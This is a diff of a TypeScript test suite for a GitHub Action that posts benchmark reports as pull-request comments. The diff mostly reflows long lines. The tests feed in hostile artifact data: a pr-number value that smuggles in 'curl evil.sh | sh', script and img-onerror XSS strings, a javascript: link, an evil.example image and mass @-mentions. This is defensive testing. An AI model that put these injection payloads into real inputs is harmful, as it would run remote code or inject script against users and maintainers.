@@ -13,7 +13,10 @@ const { github, sandbox, stdout } = useActionTest();
 const HEAD = 'c0ffee00'.repeat(5);
 
 // Lays out an artifact directory (report.json + pr-number) and runs the comment job.
-async function runCommentJob(content: unknown, options: { prFile?: string; inputs?: Record<string, string>; payload?: object } = {}) {
+async function runCommentJob(
+  content: unknown,
+  options: { prFile?: string; inputs?: Record<string, string>; payload?: object } = {},
+) {
   const directory = join(sandbox.dir, 'artifact');
   const reportPath = writeReport(join(directory, 'report.json'), content);
   writeFileSync(join(directory, 'pr-number'), options.prFile ?? '12\n');
@@ -21,7 +24,14 @@ async function runCommentJob(content: unknown, options: { prFile?: string; input
     eventName: 'workflow_run',
     payload: options.payload ?? workflowRunEvent(HEAD),
     apiUrl: github.baseUrl,
-    inputs: { mode: 'report', report: reportPath, 'github-token': 'fake-token', comment: 'always', 'fail-on-regression': 'false', ...options.inputs },
+    inputs: {
+      mode: 'report',
+      report: reportPath,
+      'github-token': 'fake-token',
+      comment: 'always',
+      'fail-on-regression': 'false',
+      ...options.inputs,
+    },
   });
   return runAction({ env });
 }
@@ -45,14 +55,19 @@ describe('workflow_run comment job', () => {
   });
 
   it('trusts the pull request GitHub links to a same-repository run, without asking', async () => {
-    const result = await runCommentJob(report([workload('a')]), { payload: workflowRunEvent(HEAD, [31]), prFile: '12\n' });
+    const result = await runCommentJob(report([workload('a')]), {
+      payload: workflowRunEvent(HEAD, [31]),
+      prFile: '12\n',
+    });
     expect(result.commentAction).toBe('created');
     expect(github.comments.map((comment) => comment.issueNumber)).toEqual([31]);
     expect(github.requests.some((request) => request.path.includes('/pulls/'))).toBe(false);
   });
 
   it('rejects a pr-number file that is not a number', async () => {
-    await expect(runCommentJob(report([workload('a')]), { prFile: '12; curl evil.sh | sh\n' })).rejects.toThrow(/pr-number: expected a pull request number such as 42/);
+    await expect(runCommentJob(report([workload('a')]), { prFile: '12; curl evil.sh | sh\n' })).rejects.toThrow(
+      /pr-number: expected a pull request number such as 42/,
+    );
     expect(github.writes()).toHaveLength(0);
   });
 });
@@ -80,7 +95,9 @@ describe('untrusted artifact', () => {
   it('rejects an oversized artifact before parsing it', async () => {
     // Not JSON at all: a "malformed JSON" message would prove it was parsed first.
     const oversized = `${'x'.repeat(4096)}`;
-    await expect(runCommentJob(oversized, { inputs: { 'max-report-bytes': '1KB' } })).rejects.toThrow(/4096 bytes is over the max-report-bytes cap of 1000/);
+    await expect(runCommentJob(oversized, { inputs: { 'max-report-bytes': '1KB' } })).rejects.toThrow(
+      /4096 bytes is over the max-report-bytes cap of 1000/,
+    );
     expect(github.requests).toHaveLength(0);
   });
 
@@ -89,13 +106,22 @@ describe('untrusted artifact', () => {
     const hostileName = '**boom** <img src=x onerror=alert(1)> @octocat [click](javascript:alert(1))';
     const hostile = regressedWorkload('placeholder');
     hostile.name = hostileName;
-    hostile.metrics[0] = metric('alloc.perOp', { status: 'regressed', change: 0.3, current: 800, reason: '</details><script>alert(1)</script> cc @team' });
-    const crashed = workload('crash', { status: 'error', error: { message: '@everyone <b>pwned</b> ![x](http://evil.example/x.png)', stderr: 'trace @octocat' } });
+    hostile.metrics[0] = metric('alloc.perOp', {
+      status: 'regressed',
+      change: 0.3,
+      current: 800,
+      reason: '</details><script>alert(1)</script> cc @team',
+    });
+    const crashed = workload('crash', {
+      status: 'error',
+      error: { message: '@everyone <b>pwned</b> ![x](http://evil.example/x.png)', stderr: 'trace @octocat' },
+    });
     await runCommentJob(report([hostile, crashed]));
     const body = github.comments[0]?.body ?? '';
     // Mentions inside fenced code are not links on GitHub; check the prose only.
     const prose = body.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
-    for (const raw of ['<img', '<script', '</details><script', '<b>', '@octocat', '@team', '@everyone']) expect(prose, raw).not.toContain(raw);
+    for (const raw of ['<img', '<script', '</details><script', '<b>', '@octocat', '@team', '@everyone'])
+      expect(prose, raw).not.toContain(raw);
     // Brackets must arrive backslash-escaped: no link, no image.
     expect(prose).not.toMatch(/(?<!\\)\]\(javascript:/);
     expect(prose).not.toMatch(/(?<!\\)!\[x/);
@@ -107,7 +133,14 @@ describe('untrusted artifact', () => {
     github.pulls.set(12, { headSha: HEAD });
     const many = Array.from({ length: 100 }, (_, index) => {
       const entry = regressedWorkload(`workload-${index}-with-a-long-descriptive-name`);
-      entry.metrics = Array.from({ length: 6 }, (_unused, m) => metric(`custom.metric${m}`, { status: 'regressed', change: 0.5, current: 900, reason: `+50.0% > 5% and +300B > 64B floor (${index}/${m})` }));
+      entry.metrics = Array.from({ length: 6 }, (_unused, m) =>
+        metric(`custom.metric${m}`, {
+          status: 'regressed',
+          change: 0.5,
+          current: 900,
+          reason: `+50.0% > 5% and +300B > 64B floor (${index}/${m})`,
+        }),
+      );
       return entry;
     });
     const huge = report(many);
